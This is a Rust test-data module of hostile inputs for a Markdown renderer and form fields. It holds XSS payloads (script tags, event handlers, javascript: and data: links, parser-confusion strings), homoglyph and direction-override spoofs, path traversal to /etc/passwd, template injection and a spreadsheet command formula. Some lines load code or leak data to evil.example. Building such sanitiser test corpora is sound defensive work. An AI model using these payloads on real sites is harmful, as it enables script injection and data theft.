//! Text that wants to harm: scripts, links that run, broken markup, direction controls, names that look like
//! others, and constructions on which careless parsers take quadratic or exponential time.
//!
//! Data only. What has to hold is the tester's to say: no script in what is rendered, no element or attribute
//! outside the allow-list, no address but harmless ones, and work linear in the length.

mod bombs;

pub use bombs::{BOMBS, Bomb};

/// One hostile text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Hostile {
    /// Says what it tries.
    pub name: &'static str,
    /// The body or the value of a field.
    pub text: String,
}

const fn of(name: &'static str, text: &'static str) -> (&'static str, &'static str) {
    (name, text)
}

/// Bodies in Markdown, the bombs in a small size among them.
pub fn markdown() -> Vec<Hostile> {
    let plain = HTML.iter().chain(&LINKS).chain(&BREAKOUTS).chain(&CHARACTERS);
    let mut corpus: Vec<Hostile> =
        plain.map(|(name, text)| Hostile { name, text: (*text).to_owned() }).collect();
    corpus.push(Hostile {
        name: "a thousand marks on one letter",
        text: format!("Z{}", "\u{336}".repeat(1_000)),
    });
    corpus.push(Hostile { name: "one word of a hundred thousand letters", text: "a".repeat(100_000) });
    corpus.extend(BOMBS.iter().map(|bomb| Hostile { name: bomb.name, text: bomb.of(300) }));
    corpus
}

/// Values for the facts: headline, caption, source, credit, keyword, address.
pub fn facts() -> Vec<Hostile> {
    let plain = FACTS.iter().chain(&CHARACTERS);
    plain.map(|(name, text)| Hostile { name, text: (*text).to_owned() }).collect()
}

/// Markup written as HTML.
const HTML: [(&str, &str); 44] = [
    of("script", "<script>alert(1)</script>"),
    of("script in capitals with spaces", "<ScRiPt\n >alert(1)</sCrIpT\t>"),
    of("script in a paragraph", "前文<script src=//evil.example/x.js></script>后文"),
    of("script that is never closed", "<script>alert(1)"),
    of("script inside a broken script", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    of("script with a slash", "<script/x>alert(1)</script>"),
    of("module script", "<script type=module>import('//evil.example')</script>"),
    of("image with an error handler", "<img src=x onerror=alert(1)>"),
    of("image with a slash for a space", "<img/src=x/onerror=alert(1)>"),
    of("image with a backtick", "<img src=`x`onerror=alert(1)>"),
    of("image that is never closed", "<img src=x onerror=alert(1)//"),
    of("svg that loads", "<svg onload=alert(1)>"),
    of("svg with a script", "<svg><script>alert&#40;1)</script></svg>"),
    of(
        "svg that animates a link",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    ),
    of(
        "svg that uses data",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    ),
    of(
        "math that confuses the parser",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    ),
    of(
        "noscript that confuses the parser",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ),
    of("frame", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    of("frame with its own page", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    of(
        "object and embed",
        "<object data=\"data:text/html,<script>alert(1)</script>\"></object><embed src=\"javascript:alert(1)\">",
    ),
    of("base", "<base href=\"https://evil.example/\">"),
    of("refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">"),
    of("link to a style sheet", "<link rel=stylesheet href=//evil.example/x.css>"),
    of("style that imports", "<style>@import url(//evil.example/x.css);</style>"),
    of(
        "style that covers the page",
        "<div style=\"position:fixed;inset:0;background:url(//evil.example)\">x</div>",
    ),
    of("style with an escaped word", "<p style=\"background:\\75\\72\\6c(javascript:alert(1))\">x</p>"),
    of("style with a comment inside", "<p style=\"width:exp/**/ression(alert(1))\">x</p>"),
    of("style that asks for each letter", "<style>input[value^=a]{background:url(//evil.example/a)}</style>"),
    of(
        "form",
        "<form action=//evil.example><input name=password autofocus onfocus=alert(1)><button>登录</button></form>",
    ),
    of("button that sends another form", "<button form=x formaction=javascript:alert(1)>点我</button>"),
    of(
        "handlers on harmless elements",
        "<p onmouseover=alert(1)>x</p><details open ontoggle=alert(1)>x</details><video onloadstart=alert(1) src=x></video>",
    ),
    of("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    of("template and slot", "<template><img src=x onerror=alert(1)></template><slot name=x></slot>"),
    of("plaintext that swallows the rest", "<plaintext>后面的都没了"),
    of("title that swallows the rest", "<title>后面的都没了\n\n正文"),
    of("textarea that swallows the rest", "<textarea>后面的都没了\n\n正文"),
    of("elements that close the page", "</p></div></article></main></body></html><script>alert(1)</script>"),
    of("comment that is never closed", "正文 <!-- 后面的都没了\n\n第二段"),
    of("comment with a dash", "<!--> <img src=x onerror=alert(1)> -->"),
    of("conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    of("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    of("processing instruction", "<?xml-stylesheet href=\"javascript:alert(1)\"?>"),
    of("declaration with an entity", "<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]>&y;"),
    of("named element over the document's own", "<img name=body><a id=location href=//evil.example>x</a>"),
];

/// Links and images in Markdown.
const LINKS: [(&str, &str); 40] = [
    of("javascript link", "[点我](javascript:alert(1))"),
    of("javascript link in capitals", "[点我](JaVaScRiPt:alert(1))"),
    of("javascript link with a tab", "[点我](<java\tscript:alert(1)>)"),
    of("javascript link with a tab as entity", "[点我](java&#9;script:alert(1))"),
    of("javascript link with a line as entity", "[点我](java&NewLine;script:alert(1))"),
    of("javascript link with its colon as entity", "[点我](javascript&colon;alert(1))"),
    of(
        "javascript link all in entities",
        "[点我](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    ),
    of("javascript link behind a space", "[点我](<  javascript:alert(1)>)"),
    of("javascript link behind a control character", "[点我](<\u{1}javascript:alert(1)>)"),
    of("javascript link behind an invisible character", "[点我](<\u{200b}javascript:alert(1)>)"),
    of("javascript link with a backslash", "[点我](javascript\\:alert(1))"),
    of("javascript link with percent escapes", "[点我](javascript%3Aalert(1))"),
    of("javascript link that looks like http", "[点我](javascript://example.com/%0aalert(1))"),
    of("javascript autolink", "<javascript:alert(1)>"),
    of("javascript by reference", "[点我][x]\n\n[x]: javascript:alert(1) \"题目\""),
    of("javascript by reference in brackets", "[点我]\n\n[点我]: <javascript:alert(1)>"),
    of("vbscript link", "[点我](vbscript:msgbox(1))"),
    of("data link", "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    of("data link in capitals", "[点我](DATA:text/html,<script>alert(1)</script>)"),
    of("data image", "![图](data:image/svg+xml,<svg onload=alert(1)>)"),
    of("file link", "[点我](file:///etc/passwd)"),
    of("blob link", "[点我](blob:https://example.com/x)"),
    of(
        "link into the app",
        "[点我](galley://localhost/media/x) [点我](tauri://localhost) [点我](asset://localhost/etc/passwd)",
    ),
    of(
        "link without a scheme to elsewhere",
        "[点我](//evil.example) [点我](\\\\evil.example\\x) [点我](/\\evil.example)",
    ),
    of("link out of the folder", "[点我](../../../../etc/passwd) ![](../../x.jpg)"),
    of("link with a name and password", "[点我](https://news.example@evil.example/)"),
    of("remote image", "![追踪](https://evil.example/pixel.gif?who=editor)"),
    of("image with javascript", "![图](javascript:alert(1))"),
    of("image in a link that runs", "[![图](https://evil.example/x.png)](javascript:alert(1))"),
    of("photo that does not exist", "![](photo:00000000-0000-7000-8000-000000000000)"),
    of(
        "photo whose id is none",
        "![](photo:../../etc/passwd) ![](photo:\"><script>alert(1)</script>) ![](photo:)",
    ),
    of("photo in capitals", "![](PHOTO:0192F0C1-5A10-7C3E-9B21-6F0D2A7C4E11)"),
    of("link whose name looks like another", "[аррlе.com](https://аррӏе.example/) <https://раураl.example/>"),
    of("link in punycode", "[银行](https://xn--80ak6aa92e.example/)"),
    of("link text that names another address", "[https://news.example/](https://evil.example/)"),
    of("link turned around by a control", "[点我](https://evil.example/\u{202e}gpj.exe)"),
    of("footnote that runs", "正文[^x]\n\n[^x]: [点我](javascript:alert(1)) <script>alert(1)</script>"),
    of("footnote with a name that breaks out", "正文[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x"),
    of("mail link with headers", "[写信](mailto:a@example.com?bcc=b@evil.example&body=%0d%0aX:1)"),
    of("telephone with a script", "[打电话](tel:javascript:alert(1))"),
];

/// Values that try to get out of where they are put.
const BREAKOUTS: [(&str, &str); 22] = [
    of("link title with a handler", "[点我](https://a.example \"x\\\" onmouseover=alert(1) \\\"\")"),
    of("link title in single quotes", "[点我](https://a.example 'x\" onmouseover=\"alert(1)')"),
    of("link address with a quote", "[点我](https://a.example/\"onmouseover=alert(1)//)"),
    of("link address with an angle", "[点我](<https://a.example/\\>\\<script\\>alert(1)>)"),
    of("alternative text with a quote", "![x\" onerror=\"alert(1)](https://a.example/x.png)"),
    of("code block with a language that breaks out", "```\"><script>alert(1)</script>\nx\n```"),
    of("code block that closes itself", "```\n</code></pre><script>alert(1)</script>\n```"),
    of("inline code with markup", "`<script>alert(1)</script>`"),
    of("heading with markup", "# </h1><script>alert(1)</script> {#x onclick=alert(1)}"),
    of(
        "table cell with markup",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | </td></table><img src=x onerror=alert(1)> |",
    ),
    of("table alignment that breaks out", "| a |\n|:-\"onclick=alert(1)-:|\n| x |"),
    of("list item with markup", "- </li></ul><script>alert(1)</script>\n1. <img src=x onerror=alert(1)>"),
    of("quote with markup", "> </blockquote><script>alert(1)</script>"),
    of("emphasis around markup", "**<script>**alert(1)**</script>**"),
    of("escaped brackets", "\\<script\\>alert(1)\\</script\\>"),
    of(
        "entities of markup",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3C;img src=x onerror=alert(1)&#x3E;",
    ),
    of("entities of nothing", "&#0; &#x0; &#xD800; &#x110000; &#999999999999; &nosuch; &amp &lt &copy"),
    of("template marks", "{{ settings }} {% include '/etc/passwd' %} {# x #} ${7*7} <%= 7*7 %>"),
    of("element in full-width brackets", "＜script＞alert(1)＜/script＞"),
    of("task list with markup", "- [ ] <input onfocus=alert(1) autofocus>"),
    of("front matter", "---\nlayout: ../../etc/passwd\n---\n正文"),
    of("strikethrough around a link", "~~[点我](javascript:alert(1))~~"),
];

/// Characters that deceive or upset.
const CHARACTERS: [(&str, &str); 16] = [
    of("right to left override", "转账给\u{202e}甲乙丙\u{202c}一百元"),
    of("isolates that are never closed", "\u{2066}\u{2067}\u{2068}正文"),
    of("embedding controls", "\u{202a}a\u{202b}b\u{202d}c"),
    of("marks of direction", "\u{200e}a\u{200f}b\u{61c}c"),
    of("invisible characters in a word", "责\u{200b}任\u{200c}编\u{200d}辑\u{2060}\u{feff}"),
    of("tag characters", "正文\u{e0001}\u{e0041}\u{e0042}\u{e007f}"),
    of("control characters", "a\u{0}b\u{1}c\u{8}d\u{b}e\u{c}f\u{1b}[31mg\u{7f}h\u{85}i"),
    of("line separators", "a\u{2028}b\u{2029}c"),
    of("characters that are none", "\u{fffe}\u{ffff}\u{1fffe}\u{fdd0}\u{fffd}\u{fffc}"),
    of("private characters", "\u{e000}\u{f8ff}\u{f0000}\u{10fffd}"),
    of("letters that look like others", "Аdmin аdmin ɑdmin ａdmin ⅰ‍I"),
    of("one letter in two spellings", "é e\u{301} Å \u{212b} A\u{30a}"),
    of("characters outside the basic plane", "𠮷𫖯𬭎😀👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿"),
    of("returns and other line ends", "a\rb\r\nc\n\rd"),
    of("spaces of every kind", "\u{a0}a\u{2000}b\u{2003}c\u{202f}d\u{205f}e\u{3000}f\u{1680}g"),
    of("interlinear annotation", "\u{fff9}注\u{fffa}释\u{fffb}"),
];

/// What a form field may hold.
const FACTS: [(&str, &str); 22] = [
    of("script", "<script>alert(1)</script>"),
    of("end of the title", "</title><script>alert(1)</script>"),
    of("end of the structured data", "</script><script>alert(1)</script>"),
    of("end of the structured data in capitals", "</SCRIPT ><img src=x onerror=alert(1)>"),
    of("comment in the structured data", "<!--<script>"),
    of("quote that opens an attribute", "\" onmouseover=\"alert(1)"),
    of("single quote that opens an attribute", "' onmouseover='alert(1)"),
    of("backtick", "` onmouseover=alert(1) `"),
    of("angle and quote", "\"><img src=x onerror=alert(1)>"),
    of("entities", "&lt;script&gt; &amp;amp; &#60;"),
    of("javascript address", "javascript:alert(1)"),
    of("javascript address with a line", "java\nscript:alert(1)"),
    of("data address", "data:text/html,<script>alert(1)</script>"),
    of("address with a quote", "https://a.example/?q=\"onclick=alert(1)"),
    of("template marks", "{{ settings.base_url }}{% raw %}{{ 7*7 }}"),
    of("end of a section", "]]>"),
    of("lines", "第一行\n第二行\r\n第三行"),
    of("path", "../../../../etc/passwd"),
    of("path of Windows", "..\\..\\C:\\x|CON:<>?*"),
    of("backslashes and quotes", "\\\" \\u003c \\n \\x3c"),
    of("formula", "=cmd|'/c calc'!A0"),
    of("nothing but spaces", " \u{3000}\t"),
];

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn each_text_has_a_name_of_its_own_and_says_something() {
        for corpus in [markdown(), facts()] {
            let names: BTreeSet<&str> = corpus.iter().map(|hostile| hostile.name).collect();
            assert_eq!(names.len(), corpus.len());
            assert!(corpus.iter().all(|hostile| !hostile.text.is_empty()));
        }
        assert!(markdown().len() > 140);
    }
}
